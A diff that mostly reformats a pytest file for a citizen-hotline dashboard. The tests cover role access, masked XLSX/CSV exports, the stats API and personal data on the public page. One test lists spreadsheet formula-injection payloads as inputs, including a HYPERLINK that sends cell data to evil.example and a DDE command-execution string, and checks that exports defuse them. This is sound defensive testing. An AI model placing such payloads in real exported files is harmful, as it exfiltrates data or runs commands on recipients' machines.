@@ -1,4 +1,5 @@
 """Dashboard access and scope, exports (opened with openpyxl), the stats API, projects, the public page."""
+
 import csv
 import io
 from datetime import timedelta
@@ -38,8 +39,10 @@ def data(world):
     return world
 
 
-@pytest.mark.parametrize("username, status", [("supervisor", 200), ("admin", 200), ("district_handler", 403),
-                                              ("operator", 403), ("citizen", 403)])
+@pytest.mark.parametrize(
+    "username, status",
+    [("supervisor", 200), ("admin", 200), ("district_handler", 403), ("operator", 403), ("citizen", 403)],
+)
 def test_dashboard_access(client, data, username, status):
     login(client, username)
     assert client.get("/dashboard/").status_code == status
@@ -79,7 +82,6 @@ def test_kpi_export_xlsx_and_csv(client, data):
     rows = list(sheet.iter_rows(values_only=True))
     units = [r[0] for r in rows[1:]]
     assert "东湖区" in units and units[-1] in ("Total", "合计")
-    header = rows[0]
     district = rows[1 + units.index("东湖区")]
     assert district[1] == 3  # dispatched: all three went to 东湖区 first
     text = client.get("/dashboard/export/kpi.csv").data.decode("utf-8-sig")
@@ -101,8 +103,9 @@ def test_ticket_export_masks_phones(client, data):
     assert db.session.execute(select(ExportRecord).filter_by(kind="tickets")).scalars().all()
 
 
-@pytest.mark.parametrize("title", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0",
-                                   "+1+2", "-2+3", "@SUM(A1:A2)"])
+@pytest.mark.parametrize(
+    "title", ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1:A2)"]
+)
 def test_exports_never_write_a_citizen_text_as_a_formula(client, data, title):
     """Issue 28.3: XLSX holds every text as a string cell; CSV puts an apostrophe before a formula character."""
     data.red.title = title
@@ -121,6 +124,7 @@ def test_exports_never_write_a_citizen_text_as_a_formula(client, data, title):
 
 def _sheet_xml(xlsx: bytes) -> bytes:
     import zipfile
+
     with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
         return archive.read("xl/worksheets/sheet1.xml")
 
@@ -155,8 +159,10 @@ def test_stats_api_with_a_bearer_token(client, data):
 
 def test_projects_admin_defines_supervisor_sees_public_page_shows(client, data):
     login(client, "admin")
-    response = client.post("/dashboard/projects/new", data={"year": 2026, "name": "老旧小区改造",
-                                                            "public": "y", "active": "y", "lead_unit_id": 0})
+    response = client.post(
+        "/dashboard/projects/new",
+        data={"year": 2026, "name": "老旧小区改造", "public": "y", "active": "y", "lead_unit_id": 0},
+    )
     assert response.status_code == 302
     project = db.session.execute(select(LivelihoodProject)).scalar_one()
     client.post(f"/dashboard/projects/{project.id}", data={"tracking_no": data.red.tracking_no})
@@ -171,9 +177,13 @@ def test_projects_admin_defines_supervisor_sees_public_page_shows(client, data):
 
 
 def test_public_page_has_no_personal_data(client, world):
-    ticket = world.ticket_in("closed", citizen_name="王小明", citizen_phone="13711112222",
-                             address="东湖区人民路12号阳光花园3栋2单元501室",
-                             body="王小明家楼上漏水")
+    ticket = world.ticket_in(
+        "closed",
+        citizen_name="王小明",
+        citizen_phone="13711112222",
+        address="东湖区人民路12号阳光花园3栋2单元501室",
+        body="王小明家楼上漏水",
+    )
     ticket.allow_publish = True
     ticket.replies[-1].body = "王小明您好：东湖区人民路12号阳光花园3栋2单元501室漏水已修复，请拨13711112222反馈。"
     hidden = world.ticket_in("closed")  # did not allow publication
@@ -196,6 +206,7 @@ def test_hotspot_alert_drills_down(client, world):
     page = client.get("/dashboard/").get_data(as_text=True)
     assert "东湖区人民路12号阳光花园" in page
     from hotline.dashboard.models import HotspotAlertRow
+
     alert = db.session.execute(select(HotspotAlertRow)).scalar_one()
     listing = client.get(f"/dashboard/tickets?hotspot={alert.id}").get_data(as_text=True)
     assert all(t.tracking_no in listing for t in tickets)
